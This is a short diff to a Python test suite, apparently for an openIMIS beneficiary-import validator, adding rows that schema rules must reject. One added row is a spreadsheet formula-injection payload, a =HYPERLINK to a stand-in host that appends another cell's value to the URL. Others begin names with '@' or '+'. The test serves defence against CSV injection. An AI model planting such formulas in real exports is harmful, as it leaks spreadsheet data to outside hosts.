@@ -102,6 +102,10 @@ def test_the_openimis_sample_imports_as_is(database) -> None:
         ("Ana,Diaz,1990-01-01,F,,,,,BAD CODE,", "location_code", "location_code:column_values_to_match_regex"),
         ("Ana,Diaz,1990-01-01,F,,HH1,7,HEAD,,", "recipient_info", "recipient_info:column_values_to_be_in_set"),
         ("Ana,Diaz,1990-01-01,F,,HH1,1,BOSS,,", "individual_role", "individual_role:column_values_to_be_in_set"),
+        ('"=HYPERLINK(""https://x.example/?""&E2,""Open"")",Diaz,1990-01-01,F,,,,,,', "first_name",
+         "first_name:column_values_to_not_match_regex"),
+        ("Ana,@Diaz,1990-01-01,F,,,,,,", "last_name", "last_name:column_values_to_not_match_regex"),
+        ("Ana,+Diaz,1990-01-01,F,,,,,,", "last_name", "last_name:column_values_to_not_match_regex"),
     ],
 )
 def test_each_schema_rule_blocks_the_row_and_changes_nothing(database, inbox_file, row: str, column: str, rule: str) -> None:
